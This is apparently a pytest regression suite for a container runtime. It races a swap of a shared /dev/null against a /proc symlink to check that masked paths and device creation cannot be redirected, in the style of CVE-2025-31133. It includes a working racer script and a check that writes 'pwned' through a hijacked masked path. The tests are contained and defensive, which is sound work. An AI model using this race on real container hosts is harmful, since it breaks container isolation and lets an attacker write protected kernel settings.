"""CVE-2025-31133 class: maskedPaths through a /dev another container controls.

Two containers share /dev (a host directory bound there in both). While the
second is created, the first swaps /dev/null for a symlink to a /proc file
and back, over and over (exchanger.c: atomic swaps, no pause). A runtime
that masks by bind-mounting "/dev/null" by path follows the symlink: masked
paths become that /proc file, writable.

Nothing here can change the host: the symlink's target is
/proc/sys/kernel/domainname, a sysctl of the victim's own UTS namespace
(the config has one), /proc/sys is read-only there (readonlyPaths), and the
victim writes only through a masked path that is that very file. The second
test aims the symlink at a file of the test's temp dir instead, and watches
its mode and owner while victims make their device nodes.
"""
import contextlib
import os
import stat

from conftest import bind
from security_support import RESULTS, host_file, results_mount, wait_for_file
from attack_tools import attack_tools, install_tools

__all__ = ["attack_tools"]  # the fixture, imported for pytest to find

TRIES = 12
RACE_SECONDS = 60  # the racer's own limit, should the test die
TARGET = "/proc/sys/kernel/domainname"

# The attacker: exchanges /dev/null (the node) and /dev/.swap (a symlink to
# the target) without pause, making the symlink again whenever a victim's
# create replaced it with a node.
RACER = r"""
cd /dev
ln -sf "$TARGET" .swap
echo racing > %(results)s/ready
exchanger -l "$TARGET" %(results)s/stop %(limit)d null .swap
echo done > %(results)s/finished
""" % {"limit": RACE_SECONDS, "results": RESULTS}

# The victim's process: every masked file must be the null device, every
# masked directory unwritable. A masked file that turned out to be a proc
# file reading like the target is written to, as an attacker would, to show
# that it took (the racer points at nothing else).
CHECK = r"""
for p in $MASKED; do
    [ -e "$p" ] || continue
    if [ -d "$p" ]; then
        touch "$p/.probe" 2>/dev/null && echo "writable masked directory $p"
        continue
    fi
    kind=$(stat -L -c '%F %t:%T' "$p")
    [ "$kind" = "character special file 1:3" ] && continue
    echo "masked $p is a $kind, mounted as: $(grep " $p " /proc/self/mountinfo)"
    if [ "$(stat -f -c %T "$p")" = proc ] && [ "$(cat "$p")" = "$(cat "$TARGET")" ] &&
            printf pwned 2>/dev/null > "$p"; then
        echo "wrote through $p: domainname is now $(cat "$TARGET")"
    fi
done
echo end
"""


def read_sysctl(path):
    with open(path) as f:
        return f.read()


def shared_dev_mounts(default_spec, tmp_path):
    """The default mounts with /dev a bind of a new host directory (in the
    same place: /dev/pts and the rest go on top of it). A bound /dev is left
    as it is (as runc does): it holds the null device the masks need."""
    shared_dev = tmp_path / "shared-dev"
    shared_dev.mkdir()
    os.mknod(shared_dev / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return [bind(shared_dev, "/dev") if m["destination"] == "/dev" else m
            for m in default_spec["mounts"]]


@contextlib.contextmanager
def dev_null_swapped(runtime, make_bundle, mounts, rootfs_copy, attack_tools, host_dir,
                     target):
    """A container sharing /dev (mounts) that swaps /dev/null with a symlink
    to target, until the with block ends."""
    install_tools(attack_tools, rootfs_copy)
    racer = make_bundle(["sh", "-c", RACER], mounts=mounts,
                        process={"env": ["PATH=/bin", f"TARGET={target}"]},
                        root={"path": str(rootfs_copy), "readonly": False},
                        extra_mounts=[results_mount(host_dir)])
    runtime.ok("run", "-d", "--bundle", racer.path, racer.id)
    try:
        assert wait_for_file(host_dir / "ready") is not None, "the racer did not start"
        yield
    finally:
        (host_dir / "stop").write_text("")
        finished = wait_for_file(host_dir / "finished")
    assert finished is not None, "the racer did not stop"


def test_masked_paths_stay_masked_while_dev_null_is_swapped(runtime, make_bundle, default_spec,
                                                            host_dir, tmp_path, rootfs_copy,
                                                            attack_tools):
    linux = default_spec["linux"]
    assert {"type": "uts"} in linux["namespaces"], "the victim needs its own UTS namespace"
    assert "/proc/sys" in linux["readonlyPaths"]
    host_domainname = read_sysctl(TARGET)
    mounts = shared_dev_mounts(default_spec, tmp_path)
    env = ["PATH=/bin", f"TARGET={TARGET}", "MASKED=" + " ".join(linux["maskedPaths"])]
    outcomes = []
    with dev_null_swapped(runtime, make_bundle, mounts, rootfs_copy, attack_tools, host_dir,
                          TARGET):
        for _ in range(TRIES):
            victim = make_bundle(["sh", "-c", CHECK], mounts=mounts, process={"env": env})
            rc, out, err = runtime("run", "--bundle", victim.path, victim.id)
            outcomes.append((rc, out.strip() or err.strip()))
            if rc == 0 and out.strip() != "end":
                break
    assert read_sysctl(TARGET) == host_domainname, "the host's domainname changed"
    broken = [out for rc, out in outcomes if rc == 0 and out != "end"]
    assert broken == [], f"masked paths were not masked in a victim: {broken}"


def test_device_nodes_never_change_a_host_file(runtime, make_bundle, default_spec, host_dir,
                                               tmp_path, rootfs_copy, attack_tools):
    """The same race aimed at the default devices: while a victim is created
    with the shared /dev, the symlink points at a host file, whose mode and
    owner a chmod or chown by path of a device made there would change. A
    bound /dev gets no devices (as with runc): the victims make none there."""
    victim_file = host_file(tmp_path, "host-file", "a host file")
    os.chmod(victim_file, 0o600)
    before = os.stat(victim_file)
    mounts = shared_dev_mounts(default_spec, tmp_path)
    outcomes = []
    with dev_null_swapped(runtime, make_bundle, mounts, rootfs_copy, attack_tools, host_dir,
                          str(victim_file)):
        for _ in range(TRIES):
            victim = make_bundle(["true"], mounts=mounts)
            outcomes.append(runtime("run", "--bundle", victim.path, victim.id)[0])
            after = os.stat(victim_file)
            if (after.st_mode, after.st_uid, after.st_gid) != (before.st_mode, before.st_uid,
                                                               before.st_gid):
                break
    assert oct(after.st_mode) == oct(before.st_mode), \
        f"a victim's create changed a host file's mode to {oct(after.st_mode)} " \
        f"(run exit codes {outcomes})"
    assert (after.st_uid, after.st_gid) == (before.st_uid, before.st_gid), \
        f"a victim's create changed a host file's owner (run exit codes {outcomes})"
    made = {"zero", "full", "random", "urandom", "tty", "fd", "stdin", "stdout", "stderr",
            "ptmx"} & set(os.listdir(tmp_path / "shared-dev"))
    assert not made, f"devices or links made in the bound /dev: {sorted(made)}"
